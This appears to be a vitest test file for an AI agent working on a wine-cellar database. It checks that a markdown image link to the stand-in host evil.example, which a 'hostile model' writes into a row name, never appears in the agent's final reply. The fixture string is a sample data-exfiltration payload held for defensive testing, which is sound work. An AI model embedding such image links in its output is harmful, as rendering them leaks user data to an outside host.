// A hostile model shows an address in the name of a row that it has just written.
import { describe, expect, it } from "vitest";
import { createCellarPack } from "../../../tests/cellar/pack.ts";
import { complete, item, thought, understood, wine } from "../../../tests/support/answers.ts";
import { createFilePrompts } from "../../../tests/support/file-prompts.ts";
import { createNodeDatabase } from "../../../tests/support/node-database.ts";
import { createConversation, type Script } from "../../../tests/support/run-nodes.ts";

const NAME = "Barolo ![b](https://evil.example/?stock=12)";

function start() {
  const pack = createCellarPack();
  const db = createNodeDatabase(pack);
  return { db, talk: createConversation(pack, createFilePrompts(), db) };
}
const add: Script = {
  UnderstandOutput: [understood()],
  ThinkOutput: [thought([{ type: "write", operation: "create" }])],
  ActDecision: [
    { action: "tool_call", tool: "db_create", params: { table: "wines", rows: [{ name: NAME }] } },
    complete(),
  ],
};
const make: Script = {
  UnderstandOutput: [understood()],
  ThinkOutput: [thought([{ type: "generate", batch: [item("Barolo")] }])],
  ActDecision: [complete("made", { data: wine(NAME) })],
};
const makeAndSave: Script = {
  ...make,
  ThinkOutput: [
    thought([
      { type: "generate", batch: [item("Barolo")] },
      { type: "write", operation: "create" },
    ]),
  ],
};

describe("addresses that a model has written in this run", () => {
  it.each([
    ["added, reported by a model", add, [{ text: "I added it." }]],
    ["added, reported by code", add, [{ text: "" }, { text: "" }]],
    ["drafted, reported by a model", make, [{ text: "Here is one." }]],
    ["drafted, reported by code", make, [{ text: "" }, { text: "" }]],
    ["saved, reported by a model", makeAndSave, [{ text: "I saved it." }]],
    ["saved, reported by code", makeAndSave, [{ text: "" }, { text: "" }]],
  ])(
    "an address that a model has written in this run is not in the reply: %s",
    async (_what, script, replies) => {
      const { talk } = start();
      const { reply } = await talk.say("add a Barolo", { ...script, ReplyOutput: replies });
      expect(reply).not.toBe("");
      expect(reply).not.toContain("evil.example");
    },
  );
});
